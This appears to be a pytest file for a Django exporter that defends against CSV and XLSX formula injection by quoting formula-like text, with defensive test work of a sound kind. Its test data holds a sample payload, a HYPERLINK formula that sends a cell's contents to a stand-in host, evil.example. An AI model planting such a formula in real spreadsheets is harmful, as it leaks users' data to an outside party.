"""The shared exporter: text that a spreadsheet would run is made inert; numbers stay numbers."""

import csv
import io
import zipfile
from datetime import date
from decimal import Decimal

import pytest
from django.utils import translation
from openpyxl import load_workbook

from dipps.core.exporters import Table, inert_text, is_formula_like, to_csv, to_xlsx

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HOSTILE = [HYPERLINK, "+1+1", "-12", "@SUM(A1:A2)", "\tx=1", "\rx=1"]


def table(rows, headers=("a",), name="test"):
    return Table(name, list(headers), rows)


def read_csv(data: bytes, delimiter=","):
    text = data.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=delimiter))


def read_xlsx(data: bytes):
    return load_workbook(io.BytesIO(data)).active


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_starts_like_a_formula_is_recognised(text):
    assert is_formula_like(text) is True
    assert inert_text(text) == "'" + text


@pytest.mark.parametrize("text", ["Norrlands Trä AB", "–12", "1=1", " =1", "", "'=1"])
def test_ordinary_text_is_left_as_it_is(text):
    assert is_formula_like(text) is False
    assert inert_text(text) == text


def test_csv_prefixes_formula_like_text_cells_with_an_apostrophe():
    with translation.override("en"):
        data = to_csv(table([[t] for t in HOSTILE]))
    assert read_csv(data)[1:] == [
        ["'" + HYPERLINK],
        ["'+1+1"],
        ["'-12"],
        ["'@SUM(A1:A2)"],
        ["'\tx=1"],
        ["'\rx=1"],
    ]


def test_csv_leaves_numbers_dates_and_booleans_alone_even_when_negative():
    row = [Decimal("-12.50"), -5, -1.5, 0, True, None, date(2024, 3, 1), "-12"]
    with translation.override("en"):
        english = read_csv(to_csv(table([row], headers="abcdefgh")))[1]
    with translation.override("sv"):
        swedish = read_csv(to_csv(table([row], headers="abcdefgh")), delimiter=";")[1]
    assert english == ["-12.50", "-5", "-1.5", "0", "1", "", "2024-03-01", "'-12"]
    assert swedish == ["-12,50", "-5", "-1,5", "0", "1", "", "2024-03-01", "'-12"]


def test_csv_headers_are_made_inert_too():
    with translation.override("en"):
        data = to_csv(table([], headers=["=cmd", "name"]))
    assert read_csv(data) == [["'=cmd", "name"]]


def test_xlsx_writes_formula_like_text_as_quoted_strings_never_formulas():
    data = to_xlsx(table([[t] for t in HOSTILE], headers=["@head"]))
    ws = read_xlsx(data)
    cells = [ws.cell(row=r, column=1) for r in range(1, 8)]
    # XML reads a lone carriage return back as a line feed; the cell is still text.
    assert [c.value for c in cells] == ["@head", *HOSTILE[:-1], "\nx=1"]
    assert [c.data_type for c in cells] == ["s"] * 7
    assert [c.quotePrefix for c in cells] == [True] * 7
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet


def test_xlsx_keeps_numbers_as_numbers_and_plain_text_without_a_quote_prefix():
    row = [Decimal("-12.50"), -5, "-12", "Norrlands Trä AB", None]
    ws = read_xlsx(to_xlsx(table([row], headers="abcde")))
    cells = [ws.cell(row=2, column=c) for c in range(1, 6)]
    assert [c.value for c in cells] == [-12.5, -5, "-12", "Norrlands Trä AB", None]
    assert [c.data_type for c in cells] == ["n", "n", "s", "s", "n"]
    assert [c.quotePrefix for c in cells] == [False, False, True, False, False]


def test_xlsx_survives_a_sheet_name_and_cells_with_characters_excel_refuses():
    data = to_xlsx(table([["Trä\x01bolaget\x0b AB"]], name=HYPERLINK))
    ws = read_xlsx(data)
    assert ws.title == '=HYPERLINK("httpevil.examplex="'
    assert ws["A2"].value == "Trä\ufffdbolaget\ufffd AB"
